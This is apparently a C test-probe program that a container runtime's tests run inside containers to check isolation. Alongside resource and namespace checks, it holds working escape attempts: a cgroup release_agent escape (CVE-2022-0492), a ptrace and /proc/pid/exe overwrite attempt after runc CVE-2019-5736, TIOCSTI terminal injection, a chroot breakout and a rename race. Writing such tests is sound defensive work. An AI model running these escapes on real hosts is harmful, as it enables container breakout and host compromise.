/* A tiny static program the tests run inside containers (after crun's tests/init.c).
 *   probe facts    print what the process sees, as JSON
 *   probe orphan   leave a grandchild to be reparented to PID 1, then count zombies
 *   probe sleep N  sleep N seconds (a command with no shell around it)
 *   probe alloc MB touch MB mebibytes, one at a time, printing each
 *   probe forks N  try to start N processes at once; print how many started
 *   probe burn S   spin for S seconds; print the CPU seconds it got
 *   probe denied   try privileged operations; print each one's errno (0: it worked)
 *   probe snoop S  for S seconds catch every new process as an attacker with CAP_SYS_PTRACE
 *                  would (runc CVE-2019-5736, CVE-2016-9962), then try to write to each
 *                  one's executable through it; print what was seen, as JSON
 *   probe uring    call io_uring_setup; print its errno (0: it made a ring)
 *   probe sti TEXT push TEXT and a newline into the terminal input of fds 0-2 and of
 *                  /dev/tty (TIOCSTI), as if typed there; print each one's errno
 *   probe exchange A B S  swap A and B (renameat2 RENAME_EXCHANGE) over and over, S seconds
 *   probe release-agent AGENT  CVE-2022-0492: unshare user, mount and cgroup namespaces,
 *                  mount a cgroup v1 hierarchy, set its release_agent to AGENT and empty a
 *                  cgroup to run it; also write /sys/fs/cgroup/memory/release_agent; print
 *                  each step's errno
 *   probe escape PATH      the classic chroot escape (chroot into a subdirectory while the
 *                  working directory stays above it, climb with .., chroot there); print
 *                  "reached" if PATH exists afterwards, else "contained" */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <sys/ptrace.h>
#include <errno.h>
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/reboot.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void json_str(const char *s) {
  putchar('"');
  for (; *s; s++) {
    if (*s == '"' || *s == '\\') printf("\\%c", *s);
    else if ((unsigned char)*s < 0x20) printf("\\u%04x", *s);
    else putchar(*s);
  }
  putchar('"');
}

static void list_dir(const char *path, int skip_fd) {
  DIR *d = opendir(path);
  int first = 1;
  putchar('[');
  if (d) {
    struct dirent *e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      if (skip_fd && atoi(e->d_name) == dirfd(d)) continue;
      if (!first) putchar(',');
      first = 0;
      json_str(e->d_name);
    }
    closedir(d);
  }
  putchar(']');
}

static void facts(void) {
  struct utsname u;
  uname(&u);
  printf("{\"pid\":%d,\"ppid\":%d,\"uid\":%d,\"gid\":%d,\"hostname\":", getpid(), getppid(), getuid(), getgid());
  json_str(u.nodename);
  printf(",\"ns\":{");
  const char *ns[] = {"mnt", "uts", "ipc", "pid", "net", "cgroup", "time", "user"};
  for (size_t i = 0; i < sizeof ns / sizeof *ns; i++) {
    char path[64], target[128] = "";
    snprintf(path, sizeof path, "/proc/self/ns/%s", ns[i]);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n > 0) target[n] = 0;
    printf("%s\"%s\":", i ? "," : "", ns[i]);
    json_str(target);
  }
  printf("},\"fds\":");
  list_dir("/proc/self/fd", 1);
  printf(",\"netifs\":");
  list_dir("/sys/class/net", 0);
  printf(",\"mounts\":[");
  FILE *f = fopen("/proc/self/mountinfo", "r");
  char line[4096];
  int first = 1;
  while (f && fgets(line, sizeof line, f)) {
    char mp[4096];
    if (sscanf(line, "%*s %*s %*s %*s %4095s", mp) != 1) continue;
    if (!first) putchar(',');
    first = 0;
    json_str(mp);
  }
  if (f) fclose(f);
  char cwd[4096] = "";
  if (!getcwd(cwd, sizeof cwd)) cwd[0] = 0;
  printf("],\"cwd\":");
  json_str(cwd);
  printf("}\n");
}

static int zombies(void) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  int n = 0;
  while (d && (e = readdir(d))) {
    char path[300], buf[512];
    if (atoi(e->d_name) <= 0) continue;
    snprintf(path, sizeof path, "/proc/%s/stat", e->d_name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ssize_t r = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (r <= 0) continue;
    buf[r] = 0;
    char *paren = strrchr(buf, ')');
    if (paren && paren[1] == ' ' && paren[2] == 'Z') n++;
  }
  if (d) closedir(d);
  return n;
}

static void orphan(void) {
  pid_t p = fork();
  if (p == 0) {
    if (fork() == 0) {
      usleep(100000);
      _exit(0);
    } /* the orphan: exits after its parent */
    _exit(0);
  }
  waitpid(p, NULL, 0);
  usleep(500000);
  printf("{\"zombies\":%d}\n", zombies());
}

static void alloc(int mb) {
  for (int i = 1; i <= mb; i++) {
    char *p = malloc(1 << 20);
    if (!p) {
      printf("malloc failed at %d\n", i);
      return;
    }
    memset(p, 1, 1 << 20);
    printf("%d\n", i);
    fflush(stdout);
  }
}

static void forks(int n) {
  int started = 0;
  for (int i = 0; i < n; i++) {
    pid_t p = fork();
    if (p == 0) {
      pause();
      _exit(0);
    }
    if (p > 0) started++;
  }
  printf("{\"started\":%d}\n", started);
  kill(0, SIGKILL); /* the whole process group, this probe included */
}

static void burn(int secs) {
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do clock_gettime(CLOCK_MONOTONIC, &now);
  while ((now.tv_sec - start.tv_sec) * 1000000000L + (now.tv_nsec - start.tv_nsec) < secs * 1000000000L);
  struct rusage ru;
  getrusage(RUSAGE_SELF, &ru);
  printf("{\"cpu\":%.3f}\n",
         ru.ru_utime.tv_sec + ru.ru_utime.tv_usec / 1e6 + ru.ru_stime.tv_sec + ru.ru_stime.tv_usec / 1e6);
}

#define TRY(name, call) printf("%s\"%s\":%d", first ? "" : ",", name, ((call) < 0 ? errno : 0)), first = 0, errno = 0

static void denied(void) {
  int first = 1;
  char c = 'x';
  printf("{");
  TRY("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
  TRY("keyctl", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "probe"));
  TRY("reboot", syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, NULL));
  TRY("init_module", syscall(SYS_init_module, NULL, 0, ""));
  TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
  TRY("tiocsti", ioctl(0, TIOCSTI, &c));
  TRY("sysrq", open("/proc/sysrq-trigger", O_WRONLY));
  TRY("kcore", open("/proc/kcore", O_RDONLY));
  TRY("sethostname", sethostname("probe", 5));
  TRY("unshare_user", unshare(CLONE_NEWUSER)); /* last: when it works, the probe is in the new namespace */
  printf("}\n");
}

#define MAX_SEEN 256
struct seen {
  int pid, exe_fd, traced, reopen;
  char exe[256], maps[512], fds[1024];
};

/* Appends "a|b|..." of the file-backed mappings (or fd targets) of pid to out. */
static void append(char *out, size_t size, const char *text) {
  size_t n = strlen(out);
  if (n + strlen(text) + 2 < size) snprintf(out + n, size - n, "%s%s", n ? "|" : "", text);
}

static void caught(struct seen *s) {
  char path[64], line[512], link[256];
  snprintf(path, sizeof path, "/proc/%d/exe", s->pid);
  s->exe_fd = open(path, O_PATH | O_CLOEXEC); /* the attack: keep it, reopen it later */
  ssize_t n = readlink(path, s->exe, sizeof s->exe - 1);
  s->exe[n > 0 ? n : 0] = 0;
  /* seized and interrupted, not attached: a SIGSTOP left pending would stop it for good */
  if (ptrace(PTRACE_SEIZE, s->pid, 0, 0) != 0) return;
  ptrace(PTRACE_INTERRUPT, s->pid, 0, 0);
  int st;
  if (waitpid(s->pid, &st, __WALL) != s->pid || !WIFSTOPPED(st)) return;
  s->traced = 1;
  snprintf(path, sizeof path, "/proc/%d/maps", s->pid);
  FILE *f = fopen(path, "r");
  while (f && fgets(line, sizeof line, f)) {
    char *file = strchr(line, '/');
    if (!file) continue;
    file[strcspn(file, "\n")] = 0;
    if (!strstr(s->maps, file)) append(s->maps, sizeof s->maps, file);
  }
  if (f) fclose(f);
  snprintf(path, sizeof path, "/proc/%d/fd", s->pid);
  DIR *d = opendir(path);
  for (struct dirent *e; d && (e = readdir(d));) {
    if (e->d_name[0] == '.') continue;
    snprintf(line, sizeof line, "/proc/%d/fd/%s", s->pid, e->d_name);
    n = readlink(line, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    /* a directory's path reads the same whether it is the container's or the host's */
    struct stat fd_st, root_st;
    if (stat(line, &fd_st) == 0 && S_ISDIR(fd_st.st_mode) && stat("/", &root_st) == 0)
      snprintf(link, sizeof link, "%s",
               fd_st.st_dev == root_st.st_dev && fd_st.st_ino == root_st.st_ino ? "the container's root"
                                                                                : "a directory outside it");
    append(s->fds, sizeof s->fds, link);
  }
  if (d) closedir(d);
  ptrace(PTRACE_DETACH, s->pid, 0, st >> 16 ? 0 : WSTOPSIG(st)); /* a signal it was stopped for, given back */
}

static void snoop(int secs) {
  static struct seen seen[MAX_SEEN];
  int count = 0;
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do {
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
      int pid = atoi(e->d_name), known = pid <= 1 || pid == getpid();
      for (int i = 0; i < count && !known; i++) known = seen[i].pid == pid;
      if (known || count == MAX_SEEN) continue;
      seen[count] = (struct seen){.pid = pid, .exe_fd = -1, .reopen = -1};
      caught(&seen[count++]);
    }
    if (d) closedir(d);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (now.tv_sec - start.tv_sec < secs);
  printf("[");
  for (int i = 0; i < count; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", seen[i].exe_fd);
    if (seen[i].exe_fd >= 0) { /* the first byte written over with itself: could it be written? */
      int w = open(path, O_RDWR | O_CLOEXEC);
      char byte;
      seen[i].reopen = w < 0 || pread(w, &byte, 1, 0) != 1 || pwrite(w, &byte, 1, 0) != 1 ? errno : 0;
      if (w >= 0) close(w);
    }
    printf("%s{\"pid\":%d,\"traced\":%d,\"reopen\":%d,\"exe\":", i ? "," : "", seen[i].pid, seen[i].traced,
           seen[i].reopen);
    json_str(seen[i].exe);
    printf(",\"maps\":");
    json_str(seen[i].maps);
    printf(",\"fds\":");
    json_str(seen[i].fds);
    printf("}");
  }
  printf("]\n");
}

static void uring(void) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  long fd = syscall(SYS_io_uring_setup, 1, &p);
  printf("{\"io_uring_setup\":%d}\n", fd < 0 ? errno : 0);
}

/* Each byte of text, then a newline, goes into the terminal's input queue. */
static int push(int fd, const char *text) {
  if (fd < 0) return errno;
  for (const char *c = text; *c; c++)
    if (ioctl(fd, TIOCSTI, c) < 0) return errno;
  return ioctl(fd, TIOCSTI, "\n") < 0 ? errno : 0;
}

static void sti(const char *text) {
  printf("{\"0\":%d,\"1\":%d,\"2\":%d,", push(0, text), push(1, text), push(2, text));
  printf("\"tty\":%d}\n", push(open("/dev/tty", O_RDWR), text));
}

static void exchange(const char *a, const char *b, int secs) {
  time_t end = time(NULL) + secs;
  long swaps = 0;
  while (time(NULL) < end)
    for (int i = 0; i < 1000; i++) swaps += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
  printf("{\"swaps\":%ld}\n", swaps);
}

static int write_file(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return errno;
  int err = write(fd, text, strlen(text)) < 0 ? errno : 0;
  close(fd);
  return err;
}

static void release_agent(const char *agent) {
  char map[64], pid[16];
  snprintf(map, sizeof map, "0 %d 1", getuid());
  int unshared = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? errno : 0;
  if (!unshared) { /* root in the new namespace, as unshare -r does */
    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", map);
    write_file("/proc/self/gid_map", map);
  }
  mkdir("/tmp/cg", 0755);
  int mounted = 0;
  for (const char *const *c = (const char *const[]){"rdma", "memory", "pids", NULL}; *c; c++)
    if ((mounted = mount("cgroup", "/tmp/cg", "cgroup", 0, *c) < 0 ? errno : 0) == 0) break;
  int set = write_file("/tmp/cg/release_agent", agent);
  /* the agent runs when a cgroup with notify_on_release empties */
  mkdir("/tmp/cg/x", 0755);
  write_file("/tmp/cg/x/notify_on_release", "1");
  snprintf(pid, sizeof pid, "%d", getpid());
  write_file("/tmp/cg/x/cgroup.procs", pid);
  write_file("/tmp/cg/cgroup.procs", pid);
  int host = write_file("/sys/fs/cgroup/memory/release_agent", agent);
  printf("{\"unshare\":%d,\"mount\":%d,\"release_agent\":%d,\"sys_release_agent\":%d}\n", unshared, mounted, set, host);
}

static void escape(const char *path) {
  mkdir("/.escape", 0700);
  if (chroot("/.escape") != 0) {
    printf("chroot: %s\n", strerror(errno));
    return;
  }
  for (int i = 0; i < 64; i++) chdir("..");
  chroot(".");
  printf("%s\n", access(path, F_OK) == 0 ? "reached" : "contained");
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOFBF, 1 << 16);
  if (argc >= 2 && !strcmp(argv[1], "facts")) facts();
  else if (argc >= 2 && !strcmp(argv[1], "orphan")) orphan();
  else if (argc >= 3 && !strcmp(argv[1], "sleep")) sleep((unsigned)atoi(argv[2]));
  else if (argc >= 3 && !strcmp(argv[1], "alloc")) alloc(atoi(argv[2]));
  else if (argc >= 3 && !strcmp(argv[1], "forks")) forks(atoi(argv[2]));
  else if (argc >= 3 && !strcmp(argv[1], "burn")) burn(atoi(argv[2]));
  else if (argc >= 2 && !strcmp(argv[1], "denied")) denied();
  else if (argc >= 3 && !strcmp(argv[1], "snoop")) snoop(atoi(argv[2]));
  else if (argc >= 2 && !strcmp(argv[1], "uring")) uring();
  else if (argc >= 3 && !strcmp(argv[1], "sti")) sti(argv[2]);
  else if (argc >= 3 && !strcmp(argv[1], "escape")) escape(argv[2]);
  else if (argc >= 5 && !strcmp(argv[1], "exchange")) exchange(argv[2], argv[3], atoi(argv[4]));
  else if (argc >= 3 && !strcmp(argv[1], "release-agent")) release_agent(argv[2]);
  else {
    fprintf(stderr, "usage: probe facts|orphan|sleep N|alloc MB|forks N|burn S|denied|snoop S|uring|sti TEXT|exchange "
                    "A B S|release-agent AGENT|escape PATH\n");
    return 2;
  }
  fflush(stdout);
  return 0;
}
